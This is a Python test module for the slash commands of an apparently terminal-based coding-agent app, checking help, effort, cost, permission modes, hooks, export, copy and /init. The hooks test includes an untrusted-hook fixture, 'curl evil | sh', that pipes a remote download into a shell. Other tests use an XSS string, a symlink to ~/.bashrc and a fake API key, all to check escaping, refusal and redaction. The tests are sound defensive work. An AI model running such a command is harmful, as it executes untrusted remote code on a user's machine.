"""Slash commands: the registry (every command has a handler, a help line and a test), and
the commands in the app: unknown ones, /help, /effort, /cost, /permissions, /compact, /exit.

A command's test is named ``test_slash_<name>_…``, in any ``tests/tui/test_*.py`` module."""

from __future__ import annotations

import ast
import inspect
from pathlib import Path

from larik.tui import hooks_and_trust, slash
from larik.tui.widgets.notice import Notice
from larik.tui.widgets.streaming_markdown import StreamingMarkdown

from .conftest import ready, screen_text, send, turn_done, wait_for


def notices(app) -> list[str]:
    return [n.text for n in app.query(Notice)]


async def test_an_unknown_command_says_so_and_shows_help(harness):
    app = harness.app([])
    async with app.run_test(size=(100, 40)) as pilot:
        await ready(pilot)
        await send(pilot, "/frobnicate")
        await pilot.pause()
        assert "unknown command /frobnicate" in notices(app)
        await wait_for(pilot, lambda: "/routing" in screen_text(app))
        assert not harness.provider.requests


async def test_slash_effort_sets_the_effort_of_the_next_request(harness):
    app = harness.app([{"text": "ok"}])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "/effort high")
        await send(pilot, "go")
        await turn_done(pilot)
        assert harness.provider.requests[0].effort == "high"
        assert "effort high" in screen_text(app)
        await send(pilot, "/effort extreme")
        await pilot.pause()
        assert any("unknown effort" in n for n in notices(app))


async def test_slash_cost_lists_usage_per_model_and_role(harness):
    app = harness.app([{"text": "ok", "usage": {"input": 1200, "output": 300}}])
    async with app.run_test(size=(100, 40)) as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await turn_done(pilot)
        await send(pilot, "/cost")
        await wait_for(
            pilot, lambda: "scripted/model-a" in screen_text(app) and "1200" in screen_text(app)
        )
        assert "main" in screen_text(app)


async def test_slash_permissions_sets_the_mode_shown_in_the_status_bar(harness):
    app = harness.app([])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "/permissions yolo")
        await pilot.pause()
        assert harness.agent.permission_mode == "yolo"
        assert screen_text(app).rstrip().endswith("yolo")


async def test_slash_compact_runs_the_agents_compaction_and_shows_its_notice(harness):
    app = harness.app([{"text": "ok"}])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "hello")
        await turn_done(pilot)
        await send(pilot, "/compact")
        await turn_done(pilot)
        assert any(n.startswith("compacted") for n in notices(app))
        assert [m.text() for m in harness.agent.messages] == ["summary of the conversation"]


async def test_slash_exit_quits_and_closes_the_agent(harness):
    app = harness.app([])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "/exit")
        await wait_for(pilot, lambda: not app.is_running)
    assert harness.agent.closed


async def test_a_commands_notice_is_scrolled_into_view_after_reading_back(harness):
    app = harness.app([{"text": "\n\n".join(f"para {i}" for i in range(60))}])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "hello")
        await turn_done(pilot)
        app.chat.conv.scroll_up(animate=False)
        app.chat.conv.scroll_up(animate=False)
        await pilot.pause()
        await send(pilot, "/effort high")
        await pilot.pause()
        assert "effort: high (was default; from the next turn)" in screen_text(app)


async def test_a_command_during_a_reply_does_not_split_the_reply(harness):
    reply = "first part " * 30 + "\n\n" + "second part " * 30
    app = harness.app([{"text": reply}])
    release = harness.hold(lambda i, ev: i == 20)  # mid-reply until the command was handled
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "hello")
        await wait_for(pilot, lambda: app.query(StreamingMarkdown))
        await send(pilot, "/effort high")
        await wait_for(pilot, lambda: any(n.startswith("effort: high") for n in notices(app)))
        release.set()
        await turn_done(pilot)
        replies = list(app.query(StreamingMarkdown))
        assert len(replies) == 1 and replies[0].text == reply
        assert any(n.startswith("effort: high") for n in notices(app))


async def test_changing_the_permission_mode_is_confirmed_in_one_line(harness):
    app = harness.app([])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        before = notices(app)
        await send(pilot, "/permissions edits")
        await pilot.pause()
        assert notices(app)[len(before) :] == [
            "permission mode: edits (was ask): edit freely, confirm commands"
        ]


def _slash_tests() -> set[str]:
    names: set[str] = set()
    for path in Path(__file__).parent.glob("test_*.py"):
        for node in ast.parse(path.read_text()).body:
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                names.add(node.name)
    return {n for n in names if n.startswith("test_slash_")}


def test_every_slash_command_has_a_handler_a_help_line_and_a_test():
    tests = _slash_tests()
    assert slash.COMMANDS
    for c in slash.COMMANDS:
        assert inspect.iscoroutinefunction(c.handler), c.name
        assert list(inspect.signature(c.handler).parameters) == ["session", "ui", "arg"], c.name
        assert c.summary.strip() and "\n" not in c.summary, c.name
        assert c.usage.split()[0] == f"/{c.name}", c.name
        assert any(t.startswith(f"test_slash_{c.name}_") for t in tests), f"/{c.name}: no test"


def test_slash_names_and_aliases_are_unique_and_each_finds_its_command():
    seen: list[str] = []
    for c in slash.COMMANDS:
        for name in (c.name, *c.aliases):
            assert slash.find(name.upper()) is c
            seen.append(name)
    assert len(seen) == len(set(seen))


def test_the_registry_test_notices_a_command_without_a_test(monkeypatch):
    async def handler(session, ui, arg):
        pass

    orphan = slash.SlashCommand("frob", "/frob", "does nothing", handler)
    monkeypatch.setattr(slash, "COMMANDS", (*slash.COMMANDS, orphan))
    try:
        test_every_slash_command_has_a_handler_a_help_line_and_a_test()
    except AssertionError as e:
        assert "/frob: no test" in str(e)
    else:
        raise AssertionError("a command without a test passed")


async def test_slash_help_lists_every_command_and_the_keys(harness):
    app = harness.app([])
    async with app.run_test(size=(120, 90)) as pilot:
        await ready(pilot)
        await send(pilot, "/help")
        await wait_for(pilot, lambda: "Ctrl+C twice" in screen_text(app))
        shown = screen_text(app)
        missing = [
            c.usage for c in slash.COMMANDS if c.usage not in shown or c.summary not in shown
        ]
        assert missing == [], missing
        # issue 25 item 13: the mode key, and plan mode, are findable from /help
        assert "Shift+Tab" in shown and "ask → edits → plan" in shown
        plan = "plan mode read and search only, then a plan to accept or refine"
        assert plan in slash.help_markdown()  # (wrapped on the screen)
        await send(pilot, "/? ")  # its alias (the space: no completion to take)
        await wait_for(pilot, lambda: notices(app)[-2:] == [slash.help_markdown()] * 2)


async def test_a_bug_in_a_handler_is_one_line_and_the_session_goes_on(harness, monkeypatch):
    async def broken(session, ui, arg):
        raise KeyError("boom")

    bad = slash.SlashCommand("effort", "/effort", "broken", broken)
    monkeypatch.setattr(slash, "COMMANDS", (bad,))
    app = harness.app([{"text": "still here"}])
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await send(pilot, "/effort high")
        await pilot.pause()
        assert notices(app)[-1] == "/effort failed: KeyError: 'boom'"
        await send(pilot, "hello")
        await turn_done(pilot)
        assert "still here" in screen_text(app)


async def test_slash_cost_before_the_first_reply_reads_as_the_status_line(harness):
    """issue 19 item 22: a priced model showed $0.0000 in the status line and — in /cost."""
    from larik.config import Config

    config = Config(models={"scripted/model-a": {"input_price": 1.0, "output_price": 2.0}})
    app = harness.app([], config=config)
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        assert screen_text(app).splitlines()[-1].split(" · ")[-2] == "$0.0000"
        await send(pilot, "/cost")
        await pilot.pause()
        assert "**$0.0000**" in notices(app)[-1] and "—" not in notices(app)[-1]


async def test_slash_help_says_how_to_set_the_api_keys_the_picker_points_to(harness):
    """issue 19 item 19: the picker said "(keys: /help)" and /help said nothing about keys."""
    from larik.config import Config
    from larik.tui.screens.model_picker import ModelPickerScreen

    app = harness.app([], config=Config())
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        app.push_screen(ModelPickerScreen([], looked="no local server answered"))
        await pilot.pause()
        assert "set a provider's API key (/help says which)" in screen_text(app)
        await pilot.press("escape")
        await send(pilot, "/help")
        await pilot.pause()
        text = notices(app)[-1]
        assert "**API keys.**" in text and "`ANTHROPIC_API_KEY` (anthropic)" in text


async def test_slash_hooks_lists_the_hooks_in_effect_and_the_untrusted_projects(harness, tmp_path):
    from larik.config import Config
    from larik.hooks.config import HooksConfig
    from larik.trust import ProjectTrust

    hooks = HooksConfig.model_validate(
        {
            "PreToolUse": [{"matcher": "Bash", "command": "~/hooks/no-rm.sh", "timeout": 30}],
            "SessionEnd": [{"hooks": [{"command": "save-log"}]}],
        }
    )
    hooks.mark_source("/home/me/.config/larik/config.toml")
    config = Config(hooks=hooks)
    config._trust = ProjectTrust(
        root=tmp_path,
        config_file=tmp_path / ".claude" / "settings.json",
        asks=(
            ".claude/settings.json runs a hook: Stop: curl evil | sh",
            ".claude/settings.json runs a hook: PreToolUse Bash: echo a; echo b",
        ),
        digest="x",
    )
    app = harness.app([], config=config)
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "/hooks")
        await wait_for(pilot, lambda: "no-rm.sh" in screen_text(app))
        text = screen_text(app)
        assert (
            "PreToolUse Bash: ~/hooks/no-rm.sh (30 s) — /home/me/.config/larik/config.toml" in text
        )
        assert "SessionEnd: save-log (60 s)" in text
        assert "not run, the project is not trusted:" in text
        assert "Stop: curl evil | sh — .claude/settings.json" in text
        assert "PreToolUse Bash: echo a; echo b — .claude/settings.json" in text


def test_hooks_markdown_says_when_there_are_none():
    from larik.config import Config

    assert hooks_and_trust.hooks_markdown(Config()).endswith("- none configured")


def test_no_handler_module_reaches_the_screen_and_the_chat_screen_stays_a_view():
    """Issue 23: handlers get (session, ui, arg); the modules they live in never import the
    chat screen (only tui/ui.py, the protocol's screen side, does), and ChatScreen is a view."""
    import ast
    from pathlib import Path

    tui = Path(slash.__file__).parent
    handlers = ["slash", "undo", "plan", "mcp", "model_choice", "starting", "shell_command"]
    for name in handlers:
        tree = ast.parse((tui / f"{name}.py").read_text())
        imported = [
            node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
        ]
        assert not [m for m in imported if m.endswith("screens.chat")], name
    assert len((tui / "screens" / "chat.py").read_text().splitlines()) <= 350


SECRET = "sk-live-0123456789abcdef"
LOOK = {
    "thinking": "I should look first.",
    "text": "Looking.",
    "tool_calls": [{"name": "glob", "input": {"pattern": "*.py"}}],
}


async def test_slash_export_html_and_jsonl_by_name_or_suffix_and_bad_arguments_are_one_line(
    harness,
):
    import json

    from larik.llm.types import Message

    app = harness.app([{"text": "<script>alert(1)</script> hello"}])
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "hi")
        await turn_done(pilot)
        await send(pilot, "/export page.html")
        await send(pilot, "/export jsonl")
        await send(pilot, "/export md page.html")
        (harness.cwd / "notes").mkdir()
        await send(pilot, "/export notes")
        await wait_for(pilot, lambda: any("is a folder" in n for n in notices(app)))
        said = notices(app)
    page = (harness.cwd / "page.html").read_text()
    assert page.startswith("<!DOCTYPE html>") and "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; hello" in page
    [jsonl] = harness.cwd.glob("larik-*.jsonl")
    lines = [Message.model_validate(json.loads(x)) for x in jsonl.read_text().splitlines()]
    assert [m.role for m in lines] == ["user", "assistant"]
    assert any("named like a html file" in n for n in said)
    assert "Traceback" not in " ".join(said)


async def test_slash_export_to_a_link_the_project_ships_is_refused_in_one_line(harness, tmp_path):
    outside = tmp_path / "bashrc"
    outside.write_text("original\n")
    (harness.cwd / "notes.md").symlink_to(outside)  # the project ships notes.md -> ~/.bashrc
    app = harness.app([{"text": "hello"}])
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "hi")
        await turn_done(pilot)
        await send(pilot, "/export notes.md")
        await wait_for(pilot, lambda: any("symbolic link" in n for n in notices(app)))
        said = [n for n in notices(app) if "/export" in n]
    assert outside.read_text() == "original\n"
    assert len(said) == 1 and "not followed" in said[0] and "\n" not in said[0].strip()
    assert not any("exported the conversation" in n for n in notices(app))


async def test_slash_copy_puts_the_last_reply_on_the_terminals_clipboard(harness, monkeypatch):
    from larik.llm.secrets import remember

    monkeypatch.delenv("TERM_PROGRAM", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    remember(SECRET)
    app = harness.app([{"text": "first"}, {"text": f"second, with {SECRET}"}])
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "/copy")
        await wait_for(pilot, lambda: any("no reply to copy yet" in n for n in notices(app)))
        for prompt in ("one", "two"):
            await send(pilot, prompt)
            await turn_done(pilot)
        await send(pilot, "/copy")
        await wait_for(pilot, lambda: any("OSC 52" in n for n in notices(app)))
        assert app.clipboard == "second, with ***"


async def test_slash_copy_in_a_terminal_without_osc_52_says_how_else(harness, monkeypatch):
    from larik.tui import clipboard

    monkeypatch.setenv("TERM_PROGRAM", "Apple_Terminal")
    monkeypatch.setattr(clipboard.host_programs, "which", lambda *_: None)  # no program here
    app = harness.app([{"text": "a reply"}])
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "hi")
        await turn_done(pilot)
        await send(pilot, "/copy")
        await wait_for(pilot, lambda: any("does not take copies" in n for n in notices(app)))
        assert app.clipboard == ""


def test_slash_cost_names_models_as_the_usage_module_does(monkeypatch):
    """One fact, one place: /cost names each model with ``Accounting.spec`` (print mode's JSON
    keys do too), not a copy of its rule."""
    from larik.agent.usage import Accounting
    from larik.llm.types import Usage
    from larik.session import SessionStatus

    usage = Accounting()
    usage.add("model-x", "main", Usage(input=5, output=2), None, "acme")
    usage.add("model-y", "main", Usage(input=1, output=1), None)  # no provider recorded
    status = SessionStatus(ready=True, usage=usage, model="model-y", provider="other")
    table = slash.cost_markdown(status)
    assert "| acme/model-x | 5 | 2 |" in table and "| other/model-y | 1 | 1 |" in table
    monkeypatch.setattr(Accounting, "spec", lambda self, model, provider="": f"<{model}>")
    table = slash.cost_markdown(status)
    assert "| <model-x> |" in table and "| <model-y> |" in table


async def test_slash_init_has_the_model_write_agents_md_through_the_normal_tools(tmp_path):
    """issue 25 item 31: /init, as peers have it — a turn whose prompt asks for AGENTS.md from
    the project; the model writes it with write_file, asked in ask mode like any write."""
    from larik.tui.screens.permission import PermissionScreen

    from .test_real_agent import Real

    real = Real(tmp_path)
    (real.cwd / "pyproject.toml").write_text('[project]\nname = "calc"\n')
    body = "# AGENTS.md\n\nRun the tests with `pytest -q`; one test: `pytest -q -k NAME`.\n"
    write = {"name": "write_file", "input": {"path": "AGENTS.md", "content": body}, "id": "w1"}
    app = real.app(
        [{"tool_calls": [write]}, {"text": "AGENTS.md covers the tests."}, {"text": "ok"}]
    )
    async with app.run_test(size=(120, 35)) as pilot:
        await ready(pilot)
        await send(pilot, "/init")
        await wait_for(pilot, lambda: isinstance(app.screen, PermissionScreen))
        await pilot.press("y")
        await turn_done(pilot)
        asked = real.provider.requests[0].messages[-1].text()
        assert "AGENTS.md" in asked and "run a single test" in asked
        assert "improve it" not in asked  # there was none
        assert (real.cwd / "AGENTS.md").read_text() == body
        assert [t.prompt for t in app.chat.session.agent.checkpoints.turns] == ["/init"]  # as typed
        await send(pilot, "/init")  # again: now there is one, to improve
        await turn_done(pilot)
        again = real.provider.requests[2].messages[-1].text()
        assert "has an AGENTS.md already: read it first and improve it" in again
